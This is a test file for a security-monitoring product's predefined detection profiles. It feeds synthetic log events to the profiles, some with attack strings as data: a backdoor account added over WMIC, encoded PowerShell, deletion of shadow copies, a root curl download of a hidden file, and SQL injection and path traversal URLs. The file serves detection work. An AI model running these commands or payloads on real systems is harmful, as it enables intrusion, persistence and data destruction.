/** The predefined profiles: sound, and raising what they promise on attacks of our own making, little on quiet days. */
import { generateEvents } from '../../../server/demo';
import type { FieldValue } from '../../../server/logs/events';
import { parseQuery } from '../../../server/logs/query';
import { checkProfile } from '../../../server/detection/check-profile';
import { PREDEFINED_PROFILES } from '../../../server/detection/predefined';
import { AnchorOdds } from '../../../server/detection/anchor-odds';
import { anchored } from '../../../server/detection/anchors';
import { Bench } from './support';

const T = Date.UTC(2026, 0, 15, 10);

type Fields = Record<string, FieldValue>;

function windows(EVENTID: number, fields: Fields = {}, CHANNEL = 'Security'): Fields {
	return { HOSTNAME: 'ws6', LOGTYPE: 'Windows', CHANNEL, EVENTID, USERNAME: 'joe', ...fields };
}

function sysmon(EVENTID: number, fields: Fields = {}): Fields {
	return windows(EVENTID, fields, 'Microsoft-Windows-Sysmon/Operational');
}

function unix(SOURCE: string, fields: Fields): Fields {
	return { HOSTNAME: 'srv', LOGTYPE: 'Unix', SOURCE, USERNAME: 'joe', ...fields };
}

function web(fields: Fields): Fields {
	return {
		HOSTNAME: 'www',
		LOGTYPE: 'Apache Access Logs',
		REMOTEIP: '192.0.2.7',
		STATUS: 200,
		...fields,
	};
}

const accounts = (created: string, deleted: string) => [
	windows(4720, { TARGETUSERNAME: created }),
	windows(4726, { TARGETUSERNAME: deleted }),
];

const times = (count: number, fields: Fields) => Array.from({ length: count }, () => fields);

/** Names of the profiles that raise alerts on events one second apart. */
function raisedBy(events: readonly Fields[]): string[] {
	const bench = new Bench();
	try {
		bench.store(events.map((fields, n) => ({ time: T + n * 1000, fields })));
		return [...new Set(bench.alerts().map((alert) => alert.profileName))].sort();
	} finally {
		bench.close();
	}
}

describe('predefined profiles', () => {
	it('are sound, with ids, names and tags in order', () => {
		for (const profile of PREDEFINED_PROFILES) {
			checkProfile(profile);
			expect(profile.description).toMatch(/\.$/);
			for (const tag of profile.tags) expect(tag).toMatch(/^attack\.t\d{4}(\.\d{3})?$/);
		}
		const ids = PREDEFINED_PROFILES.map(({ id }) => id);
		expect(ids).toEqual([...new Set(ids)].sort((one, other) => one - other));
		expect(new Set(PREDEFINED_PROFILES.map(({ name }) => name)).size).toBe(ids.length);
	});

	it('never look at every event', () => {
		for (const { name, rule } of PREDEFINED_PROFILES) {
			for (const { query } of rule.steps)
				expect([name, anchored(parseQuery(query), new AnchorOdds()).anchors]).not.toEqual([
					name,
					undefined,
				]);
		}
	});

	it('describe an account that is added over WMI', () => {
		const command = 'net user /add backdoor secret1';
		expect(
			raisedBy([
				windows(
					4103,
					{ CONTEXTINFO: 'Host Application = powershell.exe -noP -enc SQBGACgA' },
					'Microsoft-Windows-PowerShell/Operational',
				),
				sysmon(1, {
					PROCESSNAME: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
					COMMAND: `wmic /node:ws6 process call create "${command}"`,
				}),
				sysmon(1, {
					PROCESSNAME: 'C:\\Windows\\System32\\net.exe',
					PARENTIMAGE: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
					COMMAND: command,
				}),
				windows(4720, { TARGETUSERNAME: 'backdoor' }),
				windows(4732, { TARGETUSERNAME: 'Administrators' }),
				windows(4726, { TARGETUSERNAME: 'backdoor' }),
			]),
		).toEqual([
			'Windows: account added from the command line',
			'Windows: account created and made administrator',
			'Windows: encoded PowerShell',
			'Windows: new administrator',
			'Windows: process started over WMI',
			'Windows: remote command with WMIC',
			'Windows: short-lived account',
			'Windows: user account created',
		]);
	});

	it.each<[string, Fields[]]>([
		['Windows: repeated failed logons', times(10, windows(4625))],
		['Windows: brute force then successful logon', [...times(5, windows(4625)), windows(4624)]],
		[
			'Windows: password spraying',
			Array.from({ length: 30 }, (_, n) =>
				windows(4625, { USERNAME: `u${n}`, REMOTEIP: '192.0.2.1' }),
			),
		],
		['Windows: account locked out', [windows(4740)]],
		['Windows: audit log cleared', [windows(1102)]],
		['Windows: audit log cleared', [windows(104, {}, 'System')]],
		['Windows: service installed', [windows(7045, { SERVICENAME: 'x' }, 'System')]],
		['Windows: service stopped unexpectedly', [windows(7034, {}, 'System')]],
		[
			'Windows: services stopped in a row',
			times(5, windows(7036, { MESSAGE: 'The x service entered the stopped state.' }, 'System')),
		],
		['Windows: scheduled task created', [windows(4698, { TASKNAME: '\\x' })]],
		['Windows: WMI event subscription', [sysmon(20)]],
		[
			'Windows: LSASS memory read',
			[
				sysmon(10, {
					SOURCEIMAGE: 'C:\\x.exe',
					TARGETIMAGE: 'C:\\Windows\\system32\\lsass.exe',
					GRANTEDACCESS: '0x1010',
				}),
			],
		],
		['Windows: thread started in another process', [sysmon(8, { SOURCEIMAGE: 'C:\\x.exe' })]],
		[
			'Windows: shadow copies deleted',
			[
				sysmon(1, {
					PROCESSNAME: 'C:\\Windows\\System32\\vssadmin.exe',
					COMMAND: 'vssadmin delete shadows /all',
				}),
			],
		],
		[
			'Unix: repeated failed SSH logons',
			times(10, unix('sshd', { IENAME: 'Failed logon', REMOTEIP: '192.0.2.1' })),
		],
		[
			'Unix: SSH brute force then successful logon',
			[
				...times(5, unix('sshd', { IENAME: 'Failed logon', REMOTEIP: '192.0.2.1' })),
				unix('sshd', { IENAME: 'Successful logon', REMOTEIP: '192.0.2.1' }),
			],
		],
		[
			'Unix: root logged on over SSH',
			[unix('sshd', { IENAME: 'Successful logon', REMOTEIP: '192.0.2.1', USERNAME: 'root' })],
		],
		['Unix: command refused by sudo', [unix('sudo', { IENAME: 'Command refused' })]],
		[
			'Unix: privilege escalation with sudo',
			[
				...times(2, unix('sudo', { IENAME: 'Command refused' })),
				unix('sudo', { IENAME: 'Command run as another user' }),
			],
		],
		[
			'Unix: root shell opened with sudo',
			[
				unix('sudo', {
					IENAME: 'Command run as another user',
					TARGETUSER: 'root',
					COMMAND: '/bin/su',
				}),
			],
		],
		[
			'Unix: download as root',
			[
				unix('sudo', {
					IENAME: 'Command run as another user',
					COMMAND: '/usr/bin/curl -o /tmp/.x http://192.0.2.1/x',
				}),
			],
		],
		['Windows: short-lived account', accounts('eve', 'EVE')],
		['Windows: domain policy changed', [windows(4739)]],
		['Windows: domain policy changed', [windows(5136, { OBJECTCLASS: 'groupPolicyContainer' })]],
		['Unix: user account created', [unix('useradd', { MESSAGE: 'new user: name=eve, UID=1001' })]],
		['Web: scan for known holes', times(20, web({ STATUS: 404 }))],
		['Web: SQL injection attempt', [web({ URL: '/items?id=1%20UNION%20SELECT%20password' })]],
		['Web: path traversal attempt', [web({ URL: '/download?file=../../../../etc/passwd' })]],
		['Web: known attack tool', [web({ USERAGENT: 'Mozilla/5.0 (compatible; Nikto/2.5.0)' })]],
		['Web: server errors', times(10, web({ STATUS: 503 }))],
		['Web: repeated refused sign-ins', times(10, web({ STATUS: 401 }))],
		['Firewall: port scan', times(50, windows(5152, { REMOTEIP: '192.0.2.1' }))],
	])('%s', (name, events) => {
		expect(raisedBy(events)).toContain(name);
	});

	it.each<[string, Fields[]]>([
		['a few wrong passwords', times(4, windows(4625))],
		[
			'machine accounts that log on',
			[...times(9, windows(4625, { USERNAME: 'WS6$' })), windows(4624, { USERNAME: 'WS6$' })],
		],
		[
			'a host that applies group policies',
			[windows(4739, { USERNAME: 'WS6$' }), windows(5136, { OBJECTCLASS: 'user' })],
		],
		['a user in an ordinary group', [windows(4732, { TARGETUSERNAME: 'Users' })]],
		[
			'LSASS asked for its state',
			[
				sysmon(10, {
					SOURCEIMAGE: 'C:\\Windows\\system32\\svchost.exe',
					TARGETIMAGE: 'C:\\Windows\\system32\\lsass.exe',
					GRANTEDACCESS: '0x1000',
				}),
			],
		],
		[
			'administration with sudo',
			times(
				20,
				unix('sudo', {
					IENAME: 'Command run as another user',
					TARGETUSER: 'root',
					COMMAND: '/usr/bin/apt-get update',
				}),
			),
		],
		[
			'a web site with some dead links',
			Array.from({ length: 60 }, (_, n) =>
				web({ STATUS: n % 4 === 0 ? 404 : 200, URL: `/page/${n}` }),
			),
		],
		[
			'another log with the same event ids',
			[windows(1102, {}, 'System'), windows(4720, {}, 'Application'), windows(19, {}, 'System')],
		],
	])('are quiet about %s', (_, events) => {
		expect(raisedBy(events)).toEqual([]);
	});

	it('tell one account that comes and goes from two', () => {
		expect(raisedBy(accounts('eve', 'bob'))).toEqual(['Windows: user account created']);
	});

	it('make one alert of a guessing that goes on, and of a shell that is opened all day', () => {
		const bench = new Bench();
		const failed = unix('sshd', { IENAME: 'Failed logon', REMOTEIP: '192.0.2.1' });
		const shell = unix('sudo', {
			...{ IENAME: 'Command run as another user', TARGETUSER: 'root', COMMAND: '/bin/su' },
		});
		const every = (minutes: number, count: number, fields: Fields) =>
			Array.from({ length: count }, (_, n) => ({ time: T + n * minutes * 60_000, fields }));
		bench.store([...every(2, 14, failed), ...every(60, 10, shell)]);
		expect(bench.alerts().map(({ profileName, events }) => [profileName, events])).toEqual([
			['Unix: repeated failed SSH logons', 14],
			['Unix: root shell opened with sudo', 10],
		]);
		bench.close();
	});

	it('find the attacks in the demo data', () => {
		const bench = new Bench();
		bench.store([...generateEvents({ seed: 1, count: 12_000, from: T, to: T + 86_400_000 })]);
		const names = new Set(bench.alerts().map((alert) => alert.profileName));
		for (const name of [
			'Unix: SSH brute force then successful logon',
			'Windows: account created and made administrator',
			'Windows: audit log cleared',
			'Web: scan for known holes',
		])
			expect(names).toContain(name);
		bench.close();
	});

	it('keep what a person decided when the server is updated', () => {
		const bench = new Bench();
		const notifications = [{ channel: 'email' as const, to: ['soc@example.org'] }];
		bench.writer.alerts.updateProfile(1001, { enabled: false, notifications });
		bench.restart();
		const [first] = bench.read((reader) => reader.profiles());
		expect(first).toMatchObject({ id: 1001, enabled: false, notifications });
		expect(() => bench.writer.alerts.updateProfile(1001, { name: 'other' })).toThrow(
			'name: profile 1001 is predefined',
		);
		expect(() => bench.writer.alerts.deleteProfile(1001)).toThrow('can be disabled, not deleted');
		bench.close();
	});
});
